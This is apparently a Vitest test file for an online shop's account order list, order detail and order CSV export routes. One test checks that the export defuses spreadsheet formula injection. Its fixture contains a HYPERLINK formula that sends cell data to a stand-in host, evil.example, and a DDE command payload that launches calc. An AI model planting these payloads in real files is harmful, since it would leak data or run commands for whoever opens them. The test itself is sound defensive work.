import { http, HttpResponse } from 'msw'
import { describe, expect, it } from 'vitest'
import { loader as detailLoader } from '~/routes/$lang._shop.account.orders.$orderId'
import { loader as listLoader } from '~/routes/$lang._shop.account.orders._index'
import { action as csvAction, loader as csvLoader } from '~/routes/$lang.account.orders.csv'
import { get, icm, icmError, icmPath } from './icm-mock'
import { answer, args, sessionCookie, sessionFrom } from './loader-args'
import { orderEnvelope, orderListEnvelope } from './order-fixtures'
import './setup'

/** A session cookie of a logged-in user (or, with `user: false`, of an anonymous shopper with a basket). */
function cookieOf({ user = true } = {}) {
  const session = {
    apiToken: 'user-token',
    isAnonymous: !user,
    issuedAt: Date.now(),
    expiresAt: Date.now() + 3600_000,
  }
  if (!user) return sessionCookie(session)
  return sessionCookie({
    ...session,
    user: {
      login: 'patricia',
      firstName: 'Patricia',
      customerNo: 'PC-1',
      customerType: 'PrivateCustomer',
      roles: [],
      permissions: [],
    },
  })
}

async function getList(query = '', user = true) {
  return answer(listLoader, args(`/en/account/orders${query}`, { cookie: await cookieOf({ user }) }))
}

/** `GET orders` answering `count` orders of `total`, recording each call's query and token. */
function ordersHandler(total: number) {
  const calls: {
    limit: string | null
    offset: string | null
    include: string | null
    token: string | null
  }[] = []
  icm.use(
    get('orders', (request) => {
      const url = new URL(request.url)
      const limit = Number(url.searchParams.get('limit'))
      const offset = Number(url.searchParams.get('offset'))
      calls.push({
        limit: url.searchParams.get('limit'),
        offset: url.searchParams.get('offset'),
        include: url.searchParams.get('include'),
        token: request.headers.get('authentication-token'),
      })
      const count = Math.max(0, Math.min(limit, total - offset))
      const envelopes = Array.from({ length: count }, (_, i) =>
        orderEnvelope(`order-${offset + i}`, { documentNumber: String(10000000 + total - offset - i) }),
      )
      return orderListEnvelope(envelopes, { limit, offset, total })
    }),
  )
  return calls
}

describe('account order list', () => {
  it('sends a shopper who is not logged in to the login page, returning to the same list', async () => {
    const { response } = await getList('?limit=60', false)
    expect(response.status).toBe(302)
    expect(response.headers.get('Location')).toBe(
      // The route's query parameters come along, as the login guard keeps them (spec org §2 Guards).
      `/en/login?limit=60&returnUrl=${encodeURIComponent('/en/account/orders?limit=60')}`,
    )
  })

  it('shows the first 30 orders newest first with the user token, privately', async () => {
    const calls = ordersHandler(42)
    const { response, data: page } = await getList()
    expect(response.headers.get('Cache-Control')).toBe('private, no-store')
    expect(calls).toEqual([
      { limit: '30', offset: '0', include: expect.stringContaining('lineItems'), token: 'user-token' },
    ])
    expect(page.total).toBe(42)
    expect(page.limit).toBe(30)
    expect(page.orders).toHaveLength(30)
    expect(page.orders[0]).toMatchObject({
      id: 'order-0',
      documentNumber: '10000042',
      creationDate: '2026-11-20T09:30:00.000Z',
      statusCode: 'NEW',
      itemCount: 3,
      total: { gross: { value: 139.83, currency: 'EUR' } },
    })
  })

  it('loads more as a larger limit, in calls ICM allows', async () => {
    const calls = ordersHandler(150)
    const page = (await getList('?limit=150')).data
    expect(calls.map((c) => [c.limit, c.offset]).sort()).toEqual([
      ['100', '0'],
      ['50', '100'],
    ])
    expect(page.orders).toHaveLength(150)
    expect(page.orders.map((o: { id: string }) => o.id).slice(98, 102)).toEqual([
      'order-98',
      'order-99',
      'order-100',
      'order-101',
    ])
    // A limit that is not a whole page is rounded up to one.
    ordersHandler(10)
    expect((await getList('?limit=45')).data.limit).toBe(60)
  })

  it('is empty for a user without orders', async () => {
    ordersHandler(0)
    const page = (await getList()).data
    expect(page.orders).toEqual([])
    expect(page.total).toBe(0)
  })

  it('asks for a new login when ICM no longer accepts the token, dropping it', async () => {
    icm.use(get('orders', () => icmError(401, 'authentication.token.invalid', 'AuthenticationToken expired')))
    const { response, setCookie } = await getList()
    expect(response.status).toBe(302)
    // The session ended without a logout: the login page says it timed out (spec shell §2.2, §4.7).
    expect(response.headers.get('Location')).toBe(
      `/en/login?returnUrl=${encodeURIComponent('/en/account/orders')}&messageKey=session_timeout`,
    )
    const session = await sessionFrom(setCookie)
    expect(session.get('apiToken')).toBeUndefined()
    expect(session.get('user')).toBeUndefined()
  })
})

describe('account order detail', () => {
  async function getDetail(orderId: string, user = true) {
    return answer(
      detailLoader,
      args(`/en/account/orders/${orderId}`, {
        params: { lang: 'en', orderId },
        cookie: await cookieOf({ user }),
      }),
    )
  }

  it('shows the order with lines, addresses, payment and totals, privately', async () => {
    icm.use(get('orders/o-1', orderEnvelope('o-1')))
    const { response, data } = await getDetail('o-1')
    expect(response.headers.get('Cache-Control')).toBe('private, no-store')
    expect(data.title).toBe('Order 10000001')
    const order = data.order
    expect(order.lines.map((l: { sku: string }) => l.sku)).toEqual(['1000042', '2000007'])
    expect(order.lines[1].fulfillmentStatus).toBe('SHIPPED')
    expect(order.trackingLinks).toEqual([
      { url: 'https://track.example.com/123', host: 'track.example.com' },
      { number: 'M-4711' },
    ])
    expect(order.payment.methodName).toBe('Direct debit')
    expect(order.messageToMerchant).toBe('Please ring twice.')
    expect(order.externalOrderReference).toBe('PO-4711')
  })

  it('is a 404 page for an unknown or foreign order', async () => {
    icm.use(get('orders/nope', () => icmError(404, 'order.not_found.error')))
    const { response, data } = await getDetail('nope')
    expect(data).toBeUndefined()
    expect(response.status).toBe(404)
  })

  it('sends a shopper who is not logged in to the login page', async () => {
    const { response } = await getDetail('o-1', false)
    expect(response.status).toBe(302)
    expect(response.headers.get('Location')).toBe(
      `/en/login?returnUrl=${encodeURIComponent('/en/account/orders/o-1')}`,
    )
  })
})

describe('order CSV export', () => {
  const CSV = 'Order number,SKU\r\n10000001,1000042\r\n10000002,"A ""quoted"" name"\r\n'

  /** `POST orders-csv` answering CSV, recording the ids asked for. */
  function csvHandler() {
    const bodies: unknown[] = []
    icm.use(
      http.post(icmPath('orders-csv'), async ({ request }) => {
        const body = (await request.json()) as { ids: string[] }
        bodies.push(body)
        if (body.ids.includes('foreign')) return icmError(404, 'order.not_found.error')
        return new HttpResponse(CSV, { headers: { 'content-type': 'text/csv; charset=utf-8' } })
      }),
    )
    return bodies
  }

  async function post(ids: string[], user = true) {
    const form = new URLSearchParams(ids.map((id) => ['ids', id]))
    return answer(csvAction, args('/en/account/orders/csv', { form, cookie: await cookieOf({ user }) }))
  }

  it('exports the selected orders as orders.csv, ICM’s CSV cell for cell', async () => {
    const bodies = csvHandler()
    const { response } = await post(['o-1', 'o-2', 'o-1'])
    expect(bodies).toEqual([{ ids: ['o-1', 'o-2'] }])
    expect(response.status).toBe(200)
    expect(response.headers.get('Content-Type')).toBe('text/csv; charset=utf-8')
    expect(response.headers.get('Content-Disposition')).toBe('attachment; filename="orders.csv"')
    expect(response.headers.get('Cache-Control')).toBe('private, no-store')
    expect(await response.text()).toBe(CSV)
  })

  it('names one order’s file after its order number (plain link, GET)', async () => {
    const bodies = csvHandler()
    icm.use(get('orders/o-1', orderEnvelope('o-1', { documentNumber: '10000077' })))
    const { response } = await answer(
      csvLoader,
      args('/en/account/orders/csv?ids=o-1', { cookie: await cookieOf() }),
    )
    expect(bodies).toEqual([{ ids: ['o-1'] }])
    expect(response.headers.get('Content-Disposition')).toBe('attachment; filename="order-10000077.csv"')
    expect(await response.text()).toBe(CSV)
  })

  it('hands out no spreadsheet formula ICM’s CSV carries: a cost center named =HYPERLINK(…) is text', async () => {
    const formula = '=HYPERLINK("http://evil.example/?d="&A2,"Invoice")'
    const icmCsv = [
      'Order number,Product,Quantity,Total (net),Cost center',
      `10000001,Anchor,2,-12.50,"${formula.replaceAll('"', '""')}"`,
      '10000002,@SUM(A1:A9),1,4.00,+49 30 1234',
      "10000003,-2+3+cmd|' /C calc'!A0,1,4.00,Site Operations",
      '',
    ].join('\r\n')
    icm.use(
      http.post(
        icmPath('orders-csv'),
        () => new HttpResponse(icmCsv, { headers: { 'content-type': 'text/csv; charset=utf-8' } }),
      ),
    )
    const { response } = await post(['o-1', 'o-2', 'o-3'])
    expect(response.status).toBe(200)
    expect((await response.text()).split('\r\n')).toEqual([
      'Order number,Product,Quantity,Total (net),Cost center',
      // The negative amount stays a number; the cost center's name is text, quoted.
      `10000001,Anchor,2,-12.50,"'${formula.replaceAll('"', '""')}"`,
      `10000002,"'@SUM(A1:A9)",1,4.00,"'+49 30 1234"`,
      `10000003,"'-2+3+cmd|' /C calc'!A0",1,4.00,Site Operations`,
      '',
    ])
  })

  it('goes back to the list with a message when nothing is selected', async () => {
    const bodies = csvHandler()
    const { response, setCookie } = await post([])
    expect(bodies).toEqual([])
    expect(response.status).toBe(303)
    expect(response.headers.get('Location')).toBe('/en/account/orders')
    const session = await sessionFrom(setCookie)
    expect(session.get('toast')).toEqual({ key: 'account.orders.export.none_selected.error', type: 'error' })
  })

  it('is a 404 for an order that is not the user’s, and asks for a login without a user', async () => {
    csvHandler()
    expect((await post(['o-1', 'foreign'])).response.status).toBe(404)
    const { response: anonymous } = await post(['o-1'], false)
    expect(anonymous.status).toBe(302)
    expect(anonymous.headers.get('Location')).toBe(
      `/en/login?returnUrl=${encodeURIComponent('/en/account/orders/csv')}`,
    )
  })
})
